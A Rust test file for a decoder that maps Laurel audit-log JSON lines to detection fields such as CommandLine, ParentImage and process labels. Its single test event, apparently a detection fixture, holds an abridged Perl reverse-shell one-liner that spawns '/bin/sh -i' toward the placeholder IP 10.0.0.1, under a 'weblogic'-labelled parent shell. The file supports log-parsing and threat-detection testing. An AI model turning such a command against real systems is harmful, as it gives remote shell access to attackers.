//! The promises of the format description, line by line: what views a Laurel line gives, field by
//! field.

mod oracle;
mod recorded;
mod shapes;

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::sync::Arc;

use expect_test::expect;

use crate::{
    Counts, Decoder, Event, Fault, Fields, Origin, ProcessCache, Profile, Slot, ValueKind, ViewKind,
};

const DAY_MS: i64 = 86_400_000;

/// A decoder of all mapped fields, and of `record` and `native` fields.
pub(crate) struct Bench {
    decoder: Decoder,
    cache: ProcessCache,
    fields: Arc<Fields>,
}

pub(crate) const MAPPED: [&str; 22] = [
    "Image",
    "CommandLine",
    "CurrentDirectory",
    "ParentImage",
    "ParentCommandLine",
    "User",
    "LogonId",
    "ProcessId",
    "ParentProcessId",
    "ProcessGuid",
    "ParentProcessGuid",
    "Hashes",
    "sha256",
    "TargetFilename",
    "SourceFilename",
    "Initiated",
    "DestinationIp",
    "DestinationPort",
    "SourceIp",
    "SourcePort",
    "process.labels",
    "host",
];

impl Bench {
    pub(crate) fn new(profile: Profile, wanted: &[(ViewKind, &str)]) -> Self {
        let mut fields = Fields::default();
        for (kind, field) in wanted {
            match *field {
                "<keywords>" => drop(fields.want_keywords(*kind)),
                "<view>" => fields.want_view(*kind),
                field => drop(fields.want(*kind, field)),
            }
        }
        let fields = Arc::new(fields);
        let decoder = Decoder::new(Arc::new(profile), Arc::clone(&fields));
        Self {
            decoder,
            cache: ProcessCache::new(256 << 20, DAY_MS),
            fields,
        }
    }

    /// All fields of the five mapped kinds.
    pub(crate) fn mapped() -> Self {
        let kinds = &ViewKind::ALL[..5];
        let wanted: Vec<_> = kinds
            .iter()
            .flat_map(|kind| MAPPED.map(|field| (*kind, field)))
            .collect();
        Self::new(Profile::laurel(), &wanted)
    }

    pub(crate) fn decode<'a>(&'a mut self, line: &'a [u8]) -> Result<Event<'a>, Fault> {
        let origin = Origin {
            host: None,
            scope: Some(b"test"),
        };
        self.decoder.decode(line, &origin, &mut self.cache)
    }

    pub(crate) fn forget_processes(&mut self) {
        self.cache = ProcessCache::new(256 << 20, DAY_MS);
    }

    pub(crate) fn counts(&mut self) -> Counts {
        self.decoder.take_counts()
    }

    /// The views of a line as text: kind, class, and the values of each field, sorted by field.
    pub(crate) fn show(&mut self, line: &str) -> String {
        let fields = Arc::clone(&self.fields);
        match self.decode(line.as_bytes()) {
            Ok(event) => show(&fields, &event),
            Err(fault) => format!("{fault:?}\n"),
        }
    }
}

/// The views of an event as text.
pub(crate) fn show(fields: &Fields, event: &Event<'_>) -> String {
    let mut out = String::new();
    for view in event.views() {
        let class = if view.kind == ViewKind::Record {
            format!(" {:?}", view.class)
        } else {
            String::new()
        };
        writeln!(out, "{:?}{class}", view.kind).unwrap();
        let mut values: BTreeMap<(String, u32), Vec<String>> = BTreeMap::new();
        for value in event.values(view) {
            let text = String::from_utf8_lossy(event.bytes(value.span)).into_owned();
            let text = match value.kind {
                ValueKind::Text => format!("{text:?}"),
                ValueKind::Number | ValueKind::Bool => text,
                ValueKind::Null => "null".to_owned(),
                ValueKind::Container => "..".to_owned(),
            };
            let name = fields.name(view.kind, Slot(value.slot.0)).to_owned();
            let path = event.path(value);
            let path = if path.is_empty() {
                path
            } else {
                format!(" <{path}>")
            };
            values
                .entry((name, value.element))
                .or_default()
                .push(format!("{text}{path}"));
        }
        for ((name, element), texts) in values {
            let element = if element == 0 {
                String::new()
            } else {
                format!("#{element}")
            };
            writeln!(out, "  {name}{element}: {}", texts.join(" | ")).unwrap();
        }
    }
    out
}

#[test]
fn the_seed_event_gives_a_process_creation_with_parent_and_label() {
    let line = r#"{"ID":"1626611363.720:348501","SYSCALL":{"PPID":{"EVENT_ID":"1626607554.859:32454","comm":"sh","exe":"/bin/sh"},"LABELS":["weblogic"]},"EXECVE":{"argc":3,"ARGV":["perl","-e","use Socket;$i=\"10.0.0.1\";exec(\"/bin/sh -i\");"]}}"#;
    let mut bench = Bench::mapped();
    expect![[r#"
        ProcessCreation
          CommandLine: "perl -e use Socket;$i=\"10.0.0.1\";exec(\"/bin/sh -i\");" <EXECVE.ARGV>
          ParentImage: "/bin/sh" <SYSCALL.PPID.exe>
          ParentProcessGuid: "1626607554.859:32454" <SYSCALL.PPID.EVENT_ID>
          process.labels: "weblogic" <SYSCALL.LABELS[0]>
    "#]]
    .assert_eq(&bench.show(line));
    let event = bench.decode(line.as_bytes()).unwrap();
    let process = event.process();
    assert_eq!(
        process.parent.unwrap().exe.as_deref(),
        Some(&b"/bin/sh"[..])
    );
    assert_eq!(process.labels, [&b"weblogic"[..]]);
    let argument = event.arguments()[2];
    assert_eq!(
        event.node_path(argument.node).as_deref(),
        Some("EXECVE.ARGV[2]")
    );
    assert!(argument.text.starts_with(b"use Socket;$i=\"10.0.0.1\";"));
}
